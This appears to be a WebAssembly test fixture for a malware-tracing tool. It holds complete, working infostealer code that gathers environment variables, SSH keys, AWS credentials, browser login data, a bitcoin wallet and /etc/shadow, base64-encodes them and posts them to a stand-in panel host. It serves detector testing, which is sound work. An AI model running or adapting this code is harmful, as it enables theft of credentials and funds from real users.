;; RUN: spoor trace % --json
;; WHAT: Information stealer: collects the environment and credential files, encodes them in base64 and sends
;;   them through a socket.
;; EXPECT: verdict=MALICIOUS|SUSPICIOUS family=infostealer rule=collection/credentials rule=exfiltration status=exited host_text="Ci0tLSBob21l"
(module
  (import "wasi_snapshot_preview1" "path_open" (func $path_open (param i32 i32 i32 i32 i32 i64 i64 i32 i32) (result i32)))
  (import "wasi_snapshot_preview1" "fd_read" (func $fd_read (param i32 i32 i32 i32) (result i32)))
  (import "wasi_snapshot_preview1" "fd_close" (func $fd_close (param i32) (result i32)))
  (import "wasi_snapshot_preview1" "environ_sizes_get" (func $environ_sizes_get (param i32 i32) (result i32)))
  (import "wasi_snapshot_preview1" "environ_get" (func $environ_get (param i32 i32) (result i32)))
  (import "wasi_snapshot_preview1" "sock_send" (func $sock_send (param i32 i32 i32 i32 i32) (result i32)))
  (memory (export "memory") 3)
  (global $top (mut i32) (i32.const 32768))
  (func $open_read (param $path i32) (param $len i32) (result i32)
    (if (result i32)
      (call $path_open (i32.const 3) (i32.const 1) (local.get $path) (local.get $len) (i32.const 0)
        (i64.const 0x200006) (i64.const 0) (i32.const 0) (i32.const 12))
      (then (i32.const -1))
      (else (i32.load (i32.const 12)))))
  (func $read (param $fd i32) (param $to i32) (param $len i32) (result i32)
    (i32.store (i32.const 0) (local.get $to))
    (i32.store (i32.const 4) (local.get $len))
    (i32.store (i32.const 8) (i32.const 0))
    (drop (call $fd_read (local.get $fd) (i32.const 0) (i32.const 1) (i32.const 8)))
    (i32.load (i32.const 8)))
  (func $send (param $fd i32) (param $from i32) (param $len i32) (result i32)
    (i32.store (i32.const 0) (local.get $from))
    (i32.store (i32.const 4) (local.get $len))
    (call $sock_send (local.get $fd) (i32.const 0) (i32.const 1) (i32.const 0) (i32.const 8)))
  (func $append (param $from i32) (param $len i32)
    (memory.copy (global.get $top) (local.get $from) (local.get $len))
    (global.set $top (i32.add (global.get $top) (local.get $len))))
  ;; A file goes into the loot with its name before it.
  (func $grab (param $path i32) (param $len i32) (local $fd i32)
    (local.set $fd (call $open_read (local.get $path) (local.get $len)))
    (if (i32.lt_s (local.get $fd) (i32.const 0)) (then (return)))
    (call $append (i32.const 512) (i32.const 5))
    (call $append (local.get $path) (local.get $len))
    (call $append (i32.const 517) (i32.const 1))
    (global.set $top (i32.add (global.get $top) (call $read (local.get $fd) (global.get $top) (i32.const 8192))))
    (drop (call $fd_close (local.get $fd))))
  (func $environment (local $i i32) (local $n i32)
    (drop (call $environ_sizes_get (i32.const 32) (i32.const 36)))
    (drop (call $environ_get (i32.const 4096) (i32.const 8192)))
    (local.set $n (i32.load (i32.const 36)))
    (block $done
      (loop $byte
        (br_if $done (i32.ge_u (local.get $i) (local.get $n)))
        (i32.store8 (i32.add (global.get $top) (local.get $i))
          (select (i32.load8_u offset=8192 (local.get $i)) (i32.const 10) (i32.load8_u offset=8192 (local.get $i))))
        (local.set $i (i32.add (local.get $i) (i32.const 1)))
        (br $byte)))
    (global.set $top (i32.add (global.get $top) (local.get $n))))
  (func $letter (param $six i32) (result i32)
    (i32.load8_u offset=1024 (i32.and (local.get $six) (i32.const 63))))
  (func $base64 (param $from i32) (param $n i32) (param $to i32) (result i32) (local $i i32) (local $w i32) (local $first i32)
    (local.set $first (local.get $to))
    (block $done
      (loop $three
        (br_if $done (i32.ge_u (local.get $i) (local.get $n)))
        (local.set $w (i32.or (i32.or (i32.shl (i32.load8_u (local.get $from)) (i32.const 16))
          (i32.shl (i32.load8_u offset=1 (local.get $from)) (i32.const 8))) (i32.load8_u offset=2 (local.get $from))))
        (i32.store8 (local.get $to) (call $letter (i32.shr_u (local.get $w) (i32.const 18))))
        (i32.store8 offset=1 (local.get $to) (call $letter (i32.shr_u (local.get $w) (i32.const 12))))
        (i32.store8 offset=2 (local.get $to) (call $letter (i32.shr_u (local.get $w) (i32.const 6))))
        (i32.store8 offset=3 (local.get $to) (call $letter (local.get $w)))
        (local.set $from (i32.add (local.get $from) (i32.const 3)))
        (local.set $to (i32.add (local.get $to) (i32.const 4)))
        (local.set $i (i32.add (local.get $i) (i32.const 3)))
        (br $three)))
    (i32.sub (local.get $to) (local.get $first)))
  (func $upload (param $from i32) (param $len i32) (local $part i32)
    (block $done
      (loop $next
        (br_if $done (i32.eqz (local.get $len)))
        (local.set $part (select (local.get $len) (i32.const 1024) (i32.lt_u (local.get $len) (i32.const 1024))))
        (drop (call $send (i32.const 4) (local.get $from) (local.get $part)))
        (local.set $from (i32.add (local.get $from) (local.get $part)))
        (local.set $len (i32.sub (local.get $len) (local.get $part)))
        (br $next))))
  (func (export "_start")
    (call $environment)
    (call $grab (i32.const 518) (i32.const 21))
    (call $grab (i32.const 539) (i32.const 30))
    (call $grab (i32.const 569) (i32.const 26))
    (call $grab (i32.const 595) (i32.const 44))
    (call $grab (i32.const 639) (i32.const 29))
    (call $grab (i32.const 668) (i32.const 10))
    (call $grab (i32.const 678) (i32.const 10))
    (drop (call $send (i32.const 4) (i32.const 688) (i32.const 56)))
    (call $upload (i32.const 98304) (call $base64 (i32.const 32768) (i32.sub (global.get $top) (i32.const 32768)) (i32.const 98304))))
  (data (i32.const 1024) "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/")
  (data (i32.const 512)
    "\n--- "
    "\n"
    "home/user/.ssh/id_rsa"
    "home/user/.ssh/authorized_keys"
    "home/user/.aws/credentials"
    "home/user/.config/browser/Default/Login Data"
    "home/user/.bitcoin/wallet.dat"
    "etc/passwd"
    "etc/shadow"
    "POST /gate.php HTTP/1.1\r\nHost: panel.example.invalid\r\n\r\n")
)
